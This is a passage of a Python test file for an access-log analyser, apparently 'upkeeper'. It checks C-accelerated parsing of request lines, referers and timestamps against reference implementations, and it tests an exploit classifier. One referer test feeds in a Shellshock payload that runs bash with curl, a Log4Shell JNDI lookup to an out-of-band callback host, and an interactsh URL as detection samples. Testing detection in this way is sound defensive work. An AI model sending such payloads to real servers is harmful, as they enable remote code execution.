    ids, sp_of, any_static = _cut.request_ids(lines, ep_of, static_of, ep_ids, ep_list)
    assert (pa.Array.from_buffers(pa.int32(), len(lines), [None, pa.py_buffer(ids)]).to_pylist(), sp_of,
            any_static) == want
    assert ep_ids == want_ids and ep_list == want_ep_list and len(ids) == 4 * len(lines)


def test_request_ids_refuse_unlearned_lines_and_odd_ids() -> None:
    with pytest.raises(KeyError):
        _cut.request_ids([b"a", b"b"], {b"a": b"e"}, {b"a": None, b"b": None}, {}, [])
    with pytest.raises(KeyError):
        _cut.request_ids([b"a"], {b"a": b"e"}, {}, {}, [])
    for ids, err in [({b"e": "0"}, TypeError), ({b"e": -1}, ValueError), ({b"e": 2 ** 31}, ValueError),
                     ({b"e": 2 ** 70}, OverflowError)]:
        with pytest.raises(err):
            _cut.request_ids([b"a"], {b"a": b"e"}, {b"a": None}, ids, [b"e"])
    for args in [((b"a",), {}, {}, {}, []), ([b"a"], {}, {}, {}, ()), ([b"a"], [], {}, {}, [])]:
        with pytest.raises(TypeError):
            _cut.request_ids(*args)
    assert _cut.request_ids([], {}, {}, {}, []) == (b"", [], False)
    ep_ids: dict[bytes, int] = {b"e": 2 ** 31 - 1}
    ids, sp_of, any_static = _cut.request_ids([b"a", b"b"], {b"a": b"e", b"b": b"f"}, {b"a": None, b"b": b"/s.css"},
                                              ep_ids, [b"x"])
    assert ids == (2 ** 31 - 1).to_bytes(4, "little") + (1).to_bytes(4, "little") and sp_of == [None, b"/s.css"]
    assert any_static and ep_ids == {b"e": 2 ** 31 - 1, b"f": 1}


# -- request_shapes: new request lines of the common shape, and their static files --------------------------------

_shape_piece = st.sampled_from([b"GET", b"HEAD", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"POST", b"get", b"GETX",
                                b" ", b"/", b"/a", b".css", b".CsS", b".Js", b".js", b"?", b"?x.css", b"%", b"@", b"\t",
                                b"\x00", b"\x0b", b"\x0c", b"\r", b"\n", b"\xff", b"HTTP/1.1", b"HTTP/1.0", b"HTTP/2",
                                b"HTTP/2.0", b"HTTP/3", b"HTTP/3.0", b"HTTP/1.2", b"HTTP/2.", b"x", b".", b"#", b"1"])
_shape_line = st.one_of(st.lists(_shape_piece, max_size=10).map(b"".join), st.binary(max_size=40),
                        st.builds(lambda m, u, p: m + b" " + u + b" " + p,
                                  st.sampled_from([b"GET", b"HEAD", b"PUT", b"DELETE", b"PATCH", b"OPTIONS", b"POST"]),
                                  st.lists(_shape_piece, max_size=6).map(lambda x: b"/" + b"".join(x)),
                                  st.sampled_from([b"HTTP/1.1", b"HTTP/1.0", b"HTTP/2", b"HTTP/2.0", b"HTTP/3",
                                                   b"HTTP/3.0", b"HTTP/1.1 ", b"HTTP/4"])))
_extensions = st.one_of(st.none(), st.lists(st.sampled_from([b".css", b".js", b".png", b".woff2", b".c", b".x-y",
                                                             b".7z"]), max_size=4, unique=True).map(tuple))


@settings(max_examples=500, deadline=None)
@given(st.lists(_shape_line, max_size=30), _extensions, st.integers(0, 3))
@example([b"GET /a.CSS HTTP/1.1", b"GET /.css HTTP/2", b"GET / HTTP/2.0", b"OPTIONS /x.Js?y HTTP/3"], (b".css", b".js"),
         0)
def test_fuzz_request_shapes_in_c_equal_re2(lines: list[bytes], extensions: tuple[bytes, ...] | None,
                                            head: int) -> None:
    """_cut.request_shapes finds the lines RE2 matches with SIMPLE_REQUEST, and among them the URLs the static
    pattern of the extensions matches (their path up to '?'), for an array sliced anywhere."""
    from upkeeper.logs.arrowscan import SIMPLE_REQUEST, static_pattern

    arr = pa.array([b"GET / HTTP/1.1"] * head + lines, pa.large_binary()).slice(head)
    simple = pc.match_substring_regex(arr, SIMPLE_REQUEST).to_pylist()
    _valid, offsets, data = arr.buffers()
    bits, statics = _cut.request_shapes(offsets, data if data is not None else b"", arr.offset, len(arr), extensions)
    got = pa.Array.from_buffers(pa.bool_(), len(arr), [None, pa.py_buffer(bits)]).to_pylist()
    assert got == simple
    urls = [x.split(b" ")[1] for x, ok in zip(lines, simple, strict=True) if ok]
    rx = static_pattern(frozenset(extensions)) if extensions is not None else None
    want = ([(k, u.split(b"?", 1)[0]) for k, u in enumerate(urls)
             if rx and pc.match_substring_regex(pa.array([u], pa.large_binary()), rx)[0].as_py()]
            if extensions is not None else [])
    assert statics == want


def test_request_shapes_refuse_offsets_out_of_range_and_odd_extensions() -> None:
    arr = pa.array([b"GET / HTTP/1.1", b"GET /x.css HTTP/1.1"], pa.large_binary())
    _valid, offsets, data = arr.buffers()
    for start, n in [(-1, 1), (0, 3), (2, 1), (0, -1), (2 ** 60, 1)]:
        with pytest.raises(ValueError, match="out of range"):
            _cut.request_shapes(offsets, data, start, n, None)
    bad = pa.array([16, 8, 30], pa.int64()).buffers()[1]  # decreasing, then past the data
    with pytest.raises(ValueError, match="out of range"):
        _cut.request_shapes(bad, data, 0, 2, None)
    for exts in [[b".css"], (b".css", ".js"), (1,)]:
        with pytest.raises(TypeError):
            _cut.request_shapes(offsets, data, 0, 2, exts)
    assert _cut.request_shapes(offsets, data, 0, 2, (b".css",)) == (b"\x03", [(1, b"/x.css")])
    assert _cut.request_shapes(offsets, data, 1, 1, (b".css",)) == (b"\x01", [(0, b"/x.css")])
    assert _cut.request_shapes(offsets, b"", 0, 0, ()) == (b"", [])


# -- learn_store: what is learned of new request lines, stored ------------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(st.lists(st.binary(max_size=5), max_size=20, unique=True), st.lists(st.binary(max_size=2), min_size=1,
                                                                             max_size=5), st.randoms())
def test_fuzz_storing_learned_lines_in_c_equals_the_python_updates(raws: list[bytes], endpoints: list[bytes],
                                                                   rnd: Any) -> None:
    """_cut.learn_store fills the endpoint intern table, ep_of, page_of and static_of as the Python updates it
    replaces did: the same entries, the same order, the interned endpoint objects."""
    eps = [bytes(rnd.choice(endpoints)) for _ in raws]  # (equal, not identical, objects: interned on the way)
    statics = sorted((k, b"/s%d" % k) for k in range(len(raws)) if rnd.random() < 0.3)
    front = frozenset(rnd.sample(endpoints, min(2, len(endpoints))))
    old = {b"old": b"E"}

    def state() -> tuple[dict[bytes, bytes], dict[bytes, bytes], dict[bytes, bytes | None], set[bytes]]:
        return dict(old), {b"x": b"E"}, {b"x": None}, {b"x"}

    intern, ep_of, static_of, page_of = state()
    eps2 = list(map(intern.setdefault, eps, eps))
    ep_of.update(zip(raws, eps2, strict=True))
    page_of.update(compress(raws, [e in front for e in eps2]))
    static_of.update(dict.fromkeys(raws))
    for k, path in statics:
        static_of[raws[k]] = path
    c_intern, c_ep_of, c_static_of, c_page_of = state()
    _cut.learn_store(raws, list(eps), c_intern, c_ep_of, c_static_of, c_page_of, front, statics)
    assert list(c_intern.items()) == list(intern.items()) and list(c_ep_of.items()) == list(ep_of.items())
    assert list(c_static_of.items()) == list(static_of.items()) and c_page_of == page_of
    assert all(c_ep_of[r] is c_intern[c_ep_of[r]] for r in raws)


def test_storing_learned_lines_refuses_odd_arguments() -> None:
    args: list[Any] = [[b"a", b"b"], [b"E", b"F"], {}, {}, {}, set(), frozenset()]
    _cut.learn_store(*args, None)
    for statics, err in [([(1, b"/p"), (0, b"/q")], ValueError), ([(2, b"/p")], ValueError), ([(-1, b"/p")], ValueError),
                         ([(0,)], TypeError), ([b"x"], TypeError), ((0, b"/p"), TypeError)]:
        with pytest.raises(err):
            _cut.learn_store(*args[:2], {}, {}, {}, set(), frozenset(), statics)
    with pytest.raises(ValueError):
        _cut.learn_store([b"a"], [], {}, {}, {}, set(), frozenset(), None)
    with pytest.raises(TypeError):
        _cut.learn_store([b"a"], [b"E"], {}, {}, {}, set(), [b"E"], None)
    with pytest.raises(TypeError):  # an unhashable endpoint: the dict's own error
        _cut.learn_store([b"a"], [[1]], {}, {}, {}, set(), frozenset(), None)



_LEARN_STORE_HOSTILE = """
from upkeeper.logs import _cut
eps, statics = [], []
class E:  # an endpoint whose hash empties the list holding it
    def __hash__(self):
        eps.clear()
        return 1
class I:  # an index whose __index__ empties the list of statics holding its pair
    def __index__(self):
        statics.clear()
        return 0
eps.append(E())
statics.append((I(), b"/p" * 50))
intern, ep_of, static_of = {}, {}, {}
_cut.learn_store([b"a"], eps, intern, ep_of, static_of, set(), frozenset(), statics)
(e,) = intern
assert type(e) is E and ep_of[b"a"] is e and static_of == {b"a": b"/p" * 50}, (intern, ep_of, static_of)
del e, intern, ep_of, static_of
print("ok")
"""


def test_storing_learned_lines_holds_what_it_reads_while_python_code_runs() -> None:
    """learn_store holds the endpoint and the statics pair it reads while a dict's hash or an __index__ runs (code
    that may drop the caller's lists): it stored a freed endpoint and read a freed pair (a crash, in a subprocess)."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", _LEARN_STORE_HOSTILE], capture_output=True, timeout=60, check=False)
    assert done.returncode == 0 and done.stdout == b"ok\n", done


# -- referers: the host each names (access._referer_host), the exploit prefilter (classify._REFERER_HINT) -----------

_ref_piece = st.sampled_from([b"http", b"HTTPS", b"h", b"a1+.-", b"x" * 15, b"y" * 16, b"://", b":/", b":", b"/", b"//",
                              b"@", b"user", b"u:p", b"[", b"]", b"[::1]", b"[2001:DB8::1]", b"[fe80::g]", b"[1.2.3.4",
                              b"Example.COM", b"example.com.", b"..", b".", b"?", b"#", b":8080", b" ", b"\t", b"\x0b",
                              b"\x0c", b"\r", b"\n", b"\xa0", b"\xff", b"\x00", b"-", b"%", b"{", b"\\", b"OAST.",
                              b"oast", b"Interact.SH", b"interact.s", b"1", b"\xc9xample"])
_referer = st.one_of(st.lists(_ref_piece, max_size=10).map(b"".join), st.binary(max_size=30))


@settings(max_examples=1000, deadline=None)
@given(st.lists(_referer, max_size=20))
@example([b"http://user@:80/", b"http://[x@/", b"http://a@b@c/", b"http://@host", b" HTTP://Host.Example.. ", b"",
          b"  ", b"-", b"a" * 16 + b"://h", b"a" * 17 + b"://h", b"http://user@[::1]x", b"http://[::1]@/"])
def test_fuzz_referer_hosts_in_c_equal_the_regex(referers: list[bytes]) -> None:
    """_cut.referer_hosts reads each referer's host as access._referer_host does with Python's re (the user part,
    backtracking, brackets, case, blanks, final dots)."""
    from upkeeper.logs.access import _referer_host

    assert _cut.referer_hosts(referers) == [_referer_host(x) for x in referers]


@settings(max_examples=1000, deadline=None)
@given(st.lists(_referer, max_size=20), st.integers(8170, 8195))
def test_fuzz_referer_hints_in_c_equal_the_prefilter(referers: list[bytes], pad: int) -> None:
    """_cut.referer_hints finds classify._REFERER_HINT in each referer's first AGENT_CLASSIFIED_BYTES exactly as the
    regex does, a hint across that limit included; and the exploits judged with it are referer_exploit's."""
    from upkeeper.logs.access import _referer_exploits
    from upkeeper.logs.classify import _REFERER_HINT, AGENT_CLASSIFIED_BYTES, referer_exploit

    long = [b"a" * (pad - len(x) // 2) + x for x in referers]  # (a hint around byte 8192)
    values = referers + long + [b"x" * pad + b"oast."]
    assert _cut.referer_hints(values) == [bool(_REFERER_HINT.search(x, 0, AGENT_CLASSIFIED_BYTES)) for x in values]
    assert _referer_exploits(values) == [referer_exploit(x) for x in values]


def test_referer_functions_refuse_what_is_not_a_list_of_bytes() -> None:
    for f in (_cut.referer_hosts, _cut.referer_hints):
        for bad in [(b"x",), [b"x", "y"], [None], b"x"]:
            with pytest.raises(TypeError):
                f(bad)  # type: ignore[arg-type]
        assert f([]) == []
    from upkeeper.logs.access import _referer_exploits

    found = _referer_exploits([b"() { :; }; /bin/bash -c 'curl x'", b"${jndi:ldap://x.oast.fun/a}",
                               b"http://abc.INTERACT.sh/", b"https://rentals.example/listings/5703"])
    assert found == ["shellshock_in_referer", "log4shell_in_referer", "interactsh_in_referer", None]


# -- minute_tokens: time tokens keyed by their minute (ArrowScanner._minutes) ----------------------------------------

_time_piece = st.sampled_from([b"01/Mar/2024:10:00:", b"01/Mar/2024:10:01:", b"02/Mar/2024:23:59:", b"00", b"59", b"60",
                               b"61", b"62", b"99", b"0", b"x", b"\xff\x00", b" +0000", b"-0700", b"", b"ab"])


@settings(max_examples=500, deadline=None)
@given(st.one_of(
    st.lists(st.one_of(st.none(), st.lists(_time_piece, max_size=4).map(b"".join)), max_size=40),
    # (mostly one width: 20, a minute among three, any two bytes as seconds, now and then another length)
    st.lists(st.one_of(st.none(), st.builds(lambda m, sec: b"01/Mar/2024:10:0" + m + b":" + sec,
                                            st.sampled_from([b"0", b"1", b"9"]), st.binary(min_size=2, max_size=2)),
                       st.sampled_from([b"01/Mar/2024:10:00:0", b"01/Mar/2024:10:00:000"])), max_size=60)),
       st.one_of(st.just(20), st.integers(0, 30)), st.one_of(st.just(18), st.integers(-1, 30)), st.booleans())
@example([b"01/Mar/2024:10:00:00", None, b"01/Mar/2024:10:00:59", b"01/Mar/2024:10:01:61"], 20, 18, True)
def test_fuzz_minute_tokens_in_c_equal_the_pyarrow_kernels(tokens: list[bytes | None], width: int, s0: int,
                                                           sorted_: bool) -> None:
    """_cut.minute_tokens gives None unless every valid token is ``width`` long (and some row is valid, and the slice
    two bytes of it); else the column binary_replace_slice makes, its distinct tokens and the distinct seconds
    binary_slice finds (in order of first appearance, which the kernels' unique keeps too)."""
    if sorted_:
        tokens = sorted(tokens, key=lambda x: (x is None, x or b""))
    col = pa.array(tokens, pa.large_binary())
    validity, offsets, data = col.buffers()
    got = _cut.minute_tokens(offsets, data if data is not None else b"", validity if col.null_count else None,
                             len(col), width, s0, s0 + 2)
    lengths = pc.min_max(pc.binary_length(col)).as_py()
    if not (lengths["min"] == lengths["max"] == width) or s0 < 0 or s0 + 2 > width:
        assert got is None
        return
    assert got is not None
    offs, text, mins, secs = got
    tm = pc.binary_replace_slice(col, s0, s0 + 2, b"00")
    col2 = pa.Array.from_buffers(pa.large_binary(), len(col), [validity if col.null_count else None,
                                                              pa.py_buffer(offs), pa.py_buffer(text)])
    assert col2.to_pylist() == tm.to_pylist()
    assert mins == pc.drop_null(pc.unique(tm)).to_pylist()
    assert secs == pc.drop_null(pc.unique(pc.binary_slice(col, s0, s0 + 2))).to_pylist()


def test_minute_tokens_refuse_short_buffers() -> None:
    col = pa.array([b"0123", b"4567"], pa.large_binary())
    validity, offsets, data = col.buffers()
    with pytest.raises(ValueError, match="shorter"):
        _cut.minute_tokens(offsets, data, None, 3, 4, 0, 2)
    with pytest.raises(ValueError, match="shorter"):
        _cut.minute_tokens(offsets, data, b"", 2, 4, 0, 2)
    for n in (sys.maxsize, sys.maxsize - 1):  # (n + 1 offsets: it overflowed, and the rows were read past the buffer)
        with pytest.raises(ValueError, match="shorter"):
            _cut.minute_tokens(offsets, data, None, n, 4, 0, 2)
    with pytest.raises(ValueError, match="out of range"):
        _cut.minute_tokens(pa.array([0, 4, 99], pa.int64()).buffers()[1], data, None, 2, 4, 0, 2)
    assert _cut.minute_tokens(offsets, data, None, 2, 4, 1, 3) == (
        pa.array([0, 4, 8], pa.int64()).buffers()[1].to_pybytes(), b"00034007", [b"0003", b"4007"], [b"12", b"56"])
    assert _cut.minute_tokens(offsets, data, b"\x00", 2, 4, 0, 2) is None  # (no valid row)


def test_a_buffer_of_integers_that_is_not_aligned_is_refused() -> None:
    """The C functions read Arrow's offsets and dictionary indexes in place, as int64 and int32: a buffer that is
    not aligned for them (a memoryview sliced at an odd byte) was read anyway, which is undefined behaviour."""
    raw = bytearray(80)
    offs = pa.array([0, 4], pa.int64()).buffers()[1].to_pybytes()  # one row, "GET " (a bytes object: aligned)
    data = b"GET /a HTTP/1.1"
    odd = memoryview(raw)[1:1 + len(offs)]
    odd[:] = offs
    calls = [
        lambda o: _cut.endpoints(o, data, 0, 1, 64),
        lambda o: _cut.request_shapes(o, data, 0, 1, None),
        lambda o: _cut.minute_tokens(o, data, None, 1, 4, 0, 4),
    ]
    for call in calls:
        call(offs)  # (aligned: fine)
        with pytest.raises(ValueError, match="aligned"):
            call(odd)
    idx = pa.array([0, 1, 0], pa.int32()).buffers()[1].to_pybytes()
    odd32 = memoryview(raw)[2:2 + len(idx)]  # (4-byte values: 2 bytes off)
    odd32[:] = idx
    got: dict[bytes, int] = {}
    _cut.count_rows(got, [b"a", b"b"], idx, 0, 3, None)
    assert got == {b"a": 2, b"b": 1}
    with pytest.raises(ValueError, match="aligned"):
        _cut.count_rows({}, [b"a", b"b"], odd32, 0, 3, None)
    assert _cut.combos([([b"a", b"b"], idx, 0, 3, None)], None, True, None) is not None
    with pytest.raises(ValueError, match="aligned"):
        _cut.combos([([b"a", b"b"], odd32, 0, 3, None)], None, True, None)
